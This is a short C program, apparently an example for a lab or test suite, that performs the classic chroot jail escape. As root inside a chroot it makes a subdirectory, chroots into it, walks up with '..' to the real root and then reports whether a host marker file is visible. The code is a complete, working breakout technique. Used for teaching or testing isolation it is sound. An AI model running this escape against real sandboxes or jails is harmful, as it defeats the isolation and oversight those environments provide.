/* The classic chroot(2) escape, for examples/01-chroot-escape.sh.
 *
 * chroot changes the root of path lookups, not the working directory. A
 * process that is root inside a chroot makes a directory, chroots into it
 * while its working directory stays outside that new root, then walks up
 * with ".." (which stops only at the current root, which it is no longer
 * under) until it reaches the real /, and chroots there.
 *
 * Usage: chroot-escape MARKER   prints "escaped: MARKER is visible" when the
 * file MARKER (a path on the host, absent in the jail) can be seen after
 * the walk, "stayed inside: MARKER is not visible" otherwise. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct stat st;
    if (argc != 2) {
        fprintf(stderr, "usage: chroot-escape MARKER\n");
        return 2;
    }
    if (mkdir("/.escape", 0700) != 0 && errno != EEXIST) {
        perror("chroot-escape: mkdir /.escape");
        return 1;
    }
    /* The working directory is / of the jail: outside the new root. */
    if (chdir("/") != 0 || chroot("/.escape") != 0) {
        perror("chroot-escape: chroot /.escape");
        return 1;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        perror("chroot-escape: chroot .");
        return 1;
    }
    if (stat(argv[1], &st) == 0)
        printf("escaped: %s is visible\n", argv[1]);
    else
        printf("stayed inside: %s is not visible (%s)\n", argv[1], strerror(errno));
    return 0;
}
